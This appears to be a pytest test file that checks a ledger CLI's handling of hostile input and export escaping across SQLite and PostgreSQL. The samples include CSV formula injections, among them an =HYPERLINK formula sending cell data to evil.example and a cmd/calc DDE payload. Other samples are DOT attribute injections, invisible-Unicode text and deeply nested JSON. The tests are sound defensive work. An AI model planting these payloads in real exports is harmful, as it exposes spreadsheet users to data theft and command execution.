"""Hostile input and exports (issue 11, SPEC §3 and §8), on SQLite and PostgreSQL.

Each class of hole found by an adversarial pass: the input is refused with exit 2 (input) or 1
(rule), in one sentence, without a traceback and without writing; a verify command reaches a
verdict; an export is fed to the program that reads it (Python's `csv`, Graphviz `dot`).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import uuid
from datetime import date
from decimal import Decimal
from typing import Any

import pytest

from ledger.app import Ledger
from tests.support.harness import POSTGRES_URL

INVISIBLE = ["\u200b", "\u200b\u200c\u200d", "\ufeff\u2060", " \u3164 ", "\u202e\u200e", "\u0301", "\u2800", "\t\u00a0"]


def stored(store: Any) -> list[tuple[Any, ...]]:
    """Every stored event, byte for byte (position, aggregate, version, topic, state)."""
    app = Ledger(store)
    try:
        return [(n.id, n.originator_id, n.originator_version, n.topic, bytes(n.state))
                for n in app.recorder.select_notifications(1, 1_000_000)]
    finally:
        app.close()


def refused(result: Any, code: int = 2) -> str:
    """The one sentence of a refusal with exit `code`."""
    assert result.exit_code == code, (result.exit_code, result.stdout, result.stderr)
    assert result.stdout == ""
    assert result.stderr.endswith("\n") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr and "unexpectedly" not in result.stderr
    return result.stderr[:-1]


# --- free text of invisible characters only ---------------------------------------------------

TEXT_COMMANDS = [
    ("description", lambda t: ["claim", "submit", "--professional", "R-1", "--network", "wound-care", "--kind", "answer",
                               "--on", "2025-03-05", "--hours", "2", "--description", t, "--outcome", "o"]),
    ("outcome", lambda t: ["claim", "submit", "--professional", "R-1", "--network", "wound-care", "--kind", "answer",
                           "--on", "2025-03-05", "--hours", "2", "--description", "d", "--outcome", t]),
    ("practice-change", lambda t: ["claim", "amend", "c-1", "--by", "R-1", "--practice-change", t]),
    ("statement", lambda t: ["claim", "endorse", "c-1", "--by", "R-3", "--statement", t]),
    ("rationale", lambda t: ["review", "approve", "c-1", "--reviewer", "V-1", "--rationale", t]),
    ("reason", lambda t: ["review", "reject", "c-1", "--reviewer", "V-1", "--reason", t]),
    ("name", lambda t: ["professional", "register", "R-9", "--name", t, "--group", "nurse"]),
    ("name", lambda t: ["reviewer", "appoint", "V-9", "--name", t]),
    ("name", lambda t: ["network", "register", "n-9", "--name", t, "--theme", "x", "--group", "nurse"]),
]


@pytest.mark.parametrize("text", INVISIBLE, ids=ascii)
@pytest.mark.parametrize("option, args", TEXT_COMMANDS, ids=[f"{o}-{i}" for i, (o, _) in enumerate(TEXT_COMMANDS)])
def test_text_of_invisible_characters_only_is_empty(populated, store, option, args, text):
    before = stored(store)
    assert refused(populated(*args(text))) == f"Invalid input: --{option} must not be empty."
    assert stored(store) == before
    taken = populated(*args("Zoë \u200b"))  # text with something visible in it passes (a rule may still refuse)
    assert taken.exit_code in (0, 1) and "Invalid input" not in taken.stderr, taken.stderr


# --- request ids that have the form of a claim id ----------------------------------------------


def claim_id_forms(claim: str) -> list[str]:
    u = uuid.UUID(claim)
    return [str(u), str(u).upper(), u.hex, u.urn, "{" + str(u) + "}", str(uuid.uuid4()), str(uuid.uuid4()).upper()]


@pytest.mark.parametrize("form", ["hyphens", "upper", "hex", "urn", "braces", "another", "another-upper"])
def test_a_request_id_with_the_form_of_a_claim_id_is_refused(populated, store, form):
    claim = populated("--json", "claim", "show", "c-1").json()["claim"]
    u, other = uuid.UUID(claim), uuid.uuid4()
    key = {"hyphens": str(u), "upper": str(u).upper(), "hex": u.hex, "urn": u.urn, "braces": "{" + str(u) + "}",
           "another": str(other), "another-upper": str(other).upper()}[form]
    before = stored(store)
    result = populated("claim", "submit", "--professional", "R-2", "--network", "wound-care", "--kind", "question",
                       "--on", "2025-03-06", "--hours", "1", "--description", "d", "--outcome", "o", "--request-id", key)
    assert refused(result) == "Invalid input: --request-id must not have the form of a claim id (a UUID)."
    assert stored(store) == before
    assert populated("--json", "claim", "show", "c-1").json()["claim"] == claim


def test_an_import_line_with_a_uuid_request_id_is_refused(populated, store, tmp_path):
    line = {"command": "professional register", "id": "R-8", "name": "N", "group": "nurse",
            "request_id": uuid.uuid4().urn}
    path = tmp_path / "in.jsonl"
    path.write_text(json.dumps(line) + "\n")
    before = stored(store)
    assert refused(populated("import", str(path))) == (
        "Line 1 (professional register): Invalid input: request_id must not have the form of a claim id (a UUID).")
    assert stored(store) == before


# --- ids that differ only in case --------------------------------------------------------------

CASE_VARIANTS = [
    (["professional", "register", "r-1", "--name", "N", "--group", "nurse"],
     "a professional 'R-1' is registered already, and ids may not differ only in case ('r-1')"),
    (["reviewer", "appoint", "v-1", "--name", "N"],
     "a reviewer 'V-1' is appointed already, and ids may not differ only in case ('v-1')"),
    (["network", "register", "Wound-Care", "--name", "N", "--theme", "t", "--group", "nurse"],
     "a network 'wound-care' is registered already, and ids may not differ only in case ('Wound-Care')"),
]


@pytest.mark.parametrize("args, why", CASE_VARIANTS, ids=["professional", "reviewer", "network"])
def test_an_id_that_differs_only_in_case_from_a_registered_one_is_refused(populated, store, args, why):
    before = stored(store)
    result = populated("--json", *args)
    assert result.exit_code == 1 and result.stdout == "", result.stderr
    error = json.loads(result.stderr)["error"]
    assert error["rule"] == "AlreadyRegistered" and why in error["message"]
    assert stored(store) == before
    # The same id for another kind is allowed (a reviewer may be a professional too).
    assert populated("professional", "register", "V-1", "--name", "Vera", "--group", "nurse").exit_code == 0


def test_an_import_that_registers_two_ids_differing_in_case_is_refused(run, store, tmp_path):
    lines = [{"command": "professional register", "id": "Q-1", "name": "A", "group": "nurse"},
             {"command": "professional register", "id": "q-1", "name": "B", "group": "nurse"}]
    path = tmp_path / "in.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    before = stored(store)
    result = run("import", str(path))
    assert result.exit_code == 1 and "Line 2" in result.stderr and "differ only in case" in result.stderr
    assert stored(store) == before


def test_a_store_written_before_gets_its_ids_guarded_by_init(run, tmp_path):
    """tests/data/ledger-v1.sqlite was written before the guard: `init` adds it once (and a second
    `init` writes nothing); then a case variant of an old id is refused."""
    from storage.config import resolve

    old = tmp_path / "v1.db"
    shutil.copy(os.path.join(os.path.dirname(__file__), "..", "data", "ledger-v1.sqlite"), old)
    v1 = resolve(str(old))
    assert run("init", db=str(old)).exit_code == 0
    guarded = stored(v1)
    assert run("init", db=str(old)).exit_code == 0
    assert stored(v1) == guarded
    for args in (["professional", "register", "n-1", "--name", "X", "--group", "nurse"], ["reviewer", "appoint", "r-1",
                 "--name", "X"], ["network", "register", "WONDZORG", "--name", "X", "--theme", "t", "--group", "g"]):
        result = run(*args, db=str(old))
        assert result.exit_code == 1 and "differ only in case" in result.stderr, result.stderr
    assert stored(v1) == guarded
    assert run("audit", "verify", db=str(old)).exit_code == 0


# --- import: pathological JSON -----------------------------------------------------------------

DEEP = [("[" * 100_000 + "]" * 100_000, "Line 1: nested more than 32 levels deep."),
        ('{"command": ' + "[" * 100_000, "Line 1: nested more than 32 levels deep."),
        ('{"a": ' * 50_000 + "1" + "}" * 50_000, "Line 1: nested more than 32 levels deep."),
        ('{"command": "professional register", "id": "R-8", "name": "N", "group": "nurse", "id": "R-9"}',
         'Line 1: the key "id" is given twice.'),
        ('{"command": "claim submit", "hours": "1", "hours": "40"}', 'Line 1: the key "hours" is given twice.'),
        ('{"command": "network register", "id": "n", "name": "N", "theme": [{"x": 1, "x": 2}], "group": ["g"]}',
         'Line 1: the key "x" is given twice.')]


@pytest.mark.parametrize("line, message", DEEP, ids=["deep-list", "deep-open", "deep-objects", "repeated-id",
                                                     "repeated-hours", "repeated-nested"])
def test_pathological_json_in_an_import_is_invalid_input(run, store, tmp_path, line, message):
    path = tmp_path / "in.jsonl"
    path.write_text('{"command": "professional register", "id": "R-7", "name": "N", "group": "nurse"}\n'
                    + line + "\n")
    before = stored(store)
    assert refused(run("import", str(path))) == message.replace("Line 1", "Line 2")
    assert stored(store) == before


def test_brackets_inside_strings_do_not_count_as_nesting(run, store, tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_text(json.dumps({"command": "professional register", "id": "R-7", "name": "[{" * 500, "group": "nurse"})
                    + "\n")
    assert run("import", str(path)).exit_code == 0


# --- the store: symlinks and malformed URLs ---------------------------------------------------


@pytest.mark.parametrize("target", ["dangling", "a-file", "a-store"])
def test_a_store_path_that_is_a_symlink_is_refused(run, tmp_path, target, monkeypatch):
    monkeypatch.delenv("STUDYLEDGER_ALLOW_SYMLINK", raising=False)
    pointed = tmp_path / "elsewhere.db"
    if target == "a-file":
        pointed.write_text("notes that must stay notes\n")
    elif target == "a-store":
        assert run("init", db=str(pointed)).exit_code == 0
    before = pointed.read_bytes() if pointed.exists() else None
    link = tmp_path / "link.db"
    link.symlink_to(pointed)
    for args in (["init"], ["demo"], ["balance", "R-1"], ["professional", "register", "R-1", "--name", "N", "--group", "g"]):
        for form in (str(link), f"sqlite:///{link}"):
            message = refused(run(*args, db=form))
            assert message == (f"--db {link} is a symbolic link, and a store is not opened through one (name the file "
                               "itself, or set STUDYLEDGER_ALLOW_SYMLINK=1 to allow it); nothing was written.")
    assert (pointed.read_bytes() if pointed.exists() else None) == before
    monkeypatch.setenv("STUDYLEDGER_ALLOW_SYMLINK", "1")  # the operator's choice
    if target != "a-file":
        assert run("init", db=str(link)).exit_code == 0 and pointed.exists()


@pytest.mark.parametrize("url", ["postgresql://u:pw@[::1/x", "postgresql://u:pw@[nothost]/x",
                                 "postgres://[/db"])
@pytest.mark.parametrize("as_json", [False, True])
def test_a_malformed_postgresql_url_is_invalid_input(run, url, as_json):
    result = run(*(["--json"] if as_json else []), "balance", "R-1", db=url)
    assert result.exit_code == 2 and result.stdout == "" and "Traceback" not in result.stderr
    message = json.loads(result.stderr)["error"]["message"] if as_json else result.stderr.strip()
    assert message in ("--db is not a valid PostgreSQL URL: postgresql://user:password@host:port/dbname.",
                       "--db has a PostgreSQL port that is not a number.")
    assert "pw" not in result.stderr


# --- the demo's hints ---------------------------------------------------------------------------


@pytest.mark.postgres  # a server whose role takes any password
@pytest.mark.parametrize("via_env", [False, True])
def test_the_demo_prints_no_password(run, via_env, monkeypatch):
    from tests.support.harness import drop_schema

    schema = "t_" + uuid.uuid4().hex[:12]
    password = "Demo-Secret-4711"
    url = POSTGRES_URL.replace("postgresql://postgres@", f"postgresql://postgres:{password}@") + f"?schema={schema}"
    assert password in url
    try:
        if via_env:
            monkeypatch.setenv("STUDYLEDGER_DB", url)
            result = run("demo", db=None)
        else:
            result = run("demo", db=url)
        assert result.exit_code == 0, result.stderr
        assert password not in result.stdout + result.stderr
        hints = [line for line in result.stdout.splitlines() if line.startswith("  studyledger")]
        assert hints and all(("--db" in line) != via_env for line in hints if line != "  studyledger --help")
    finally:
        drop_schema(POSTGRES_URL, schema)


# --- exports: CSV, DOT, tables, the digest --------------------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\tTabbed", "\rReturned", 'Innocent", URL="https://evil.example", comment="', "back\\slash\\",
                 "line\nbreak", "\x1b[31mred\x1b[0m", "\\N\\G\\l", "\u202eright-to-left"]


@pytest.fixture
def hostile(populated):
    """The register, with a network and claim texts named as an attacker would; c-1 approved, then revoked."""
    for i, name in enumerate(HOSTILE_NAMES):
        assert populated("network", "register", f"evil-{i}", "--name", name, "--theme", "t", "--group", "nurse",
                         "--founded-on", "2020-01-01").exit_code == 0
    assert populated("network", "register", "plain", "--name", "Plain", "--theme", "wound-care", "--group", "nurse",
                     "--founded-on", "2020-01-01").exit_code == 0
    assert populated("review", "approve", "c-1", "--reviewer", "V-1", "--points", "2.5",
                     "--rationale", HOSTILE_NAMES[1]).exit_code == 0
    assert populated("review", "revoke", "c-1", "--reviewer", "V-1", "--reason", HOSTILE_NAMES[0]).exit_code == 0
    return populated


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(hostile):
    result = hostile("audit", "history", "R-1", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or Decimal(cell) < 0, cell  # only a plain negative number
    texts = [row["text"] for row in rows]
    assert "'" + HOSTILE_NAMES[0] in " ".join(texts) or any(t.startswith("'=") for t in texts), texts
    assert "-2.5" in [row["points"] for row in rows]  # the revocation, still a number


@pytest.mark.parametrize("cell, shown", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@x", "'@x"),
                                         ("\tx", "'\tx"), ("\rx", "'\rx"), ("-2.5", "-2.5"), ("-3", "-3"),
                                         ("2.5", "2.5"), ("a=b", "a=b"), ("", ""), (None, ""), ("-", "'-"),
                                         ("-1e3", "'-1e3"), ("- 2", "'- 2")])
def test_csv_cell(cell, shown):
    from cli.exports import csv_cell

    assert csv_cell(cell) == shown


def _graphviz(source: str) -> dict:
    """What Graphviz `dot` reads in `source` (its -Tjson output); skips the test when `dot` is missing."""
    dot = shutil.which("dot")
    if dot is None:
        pytest.skip("Graphviz `dot` is not installed (apt-get install graphviz): the output is not checked by it")
    rendered = subprocess.run([dot, "-Tjson"], input=source.encode(), capture_output=True, timeout=60)
    assert rendered.returncode == 0 and not rendered.stderr, rendered.stderr
    return json.loads(rendered.stdout)


def _label(text: str) -> str:
    """The label Graphviz reports for a node labelled `text` by us: our escapes, quotes unescaped."""
    from cli.exports import dot_string

    return dot_string(text)[1:-1].replace('\\"', '"')


@pytest.mark.processes  # Graphviz `dot`
def test_the_network_map_in_dot_escapes_every_name(hostile):
    result = hostile("network", "map", "--format", "dot")
    assert result.exit_code == 0, result.stderr
    graph = _graphviz(result.stdout)
    nodes = {o["name"]: o for o in graph["objects"]}
    for i, name in enumerate(HOSTILE_NAMES):  # each name is one node's label, and nothing more
        assert nodes[f"network:evil-{i}"]["label"] == _label(name.strip() + "\n0 member(s)")  # names are stored stripped, nodes[f"network:evil-{i}"]
    attributes = {key for o in graph["objects"] for key in o}
    assert not attributes & {"URL", "href", "comment", "tooltip", "target"}, attributes
    assert len([n for n in nodes if n.startswith("network:")]) == len(HOSTILE_NAMES) + 2
    assert len(graph.get("edges", [])) == 2 * (len(HOSTILE_NAMES) + 2)


@pytest.mark.processes  # Graphviz `dot`
def test_a_dot_string_is_one_label_whatever_it_holds():
    from cli.exports import dot_string

    names = [*HOSTILE_NAMES, '"', "\\", '\\"', '";', "a\x00b", "}", "\\\n"]
    source = "digraph g {\n" + "".join(f"  n{i} [label={dot_string(n)}];\n" for i, n in enumerate(names)) + "}\n"
    nodes = {o["name"]: o for o in _graphviz(source)["objects"]}
    assert len(nodes) == len(names)
    for i, name in enumerate(names):
        assert nodes[f"n{i}"]["label"] == _label(name)


def test_tables_never_print_control_characters(hostile):
    for args in (["network", "map"], ["claim", "show", "c-1"], ["review", "queue"], ["audit", "history", "R-1"]):
        result = hostile(*args)
        assert result.exit_code == 0, (args, result.stderr)
        assert all(c.isprintable() or c == "\n" for c in result.stdout), (args, result.stdout)


def test_the_digest_is_alone_on_stdout_and_verify_takes_it(run):
    assert run("professional", "register", "R-1", "--name", "N", "--group", "nurse").exit_code == 0
    taken = run("audit", "digest")
    assert taken.exit_code == 0 and taken.stdout.count("\n") == 1 and taken.stderr.startswith("(over ")
    digest = taken.stdout.strip()  # what "$(studyledger audit digest)" gives
    checked = run("audit", "verify", "--digest", digest)
    assert checked.exit_code == 0, checked.stdout + checked.stderr
    assert run("--json", "audit", "digest").json()["digest"] == digest
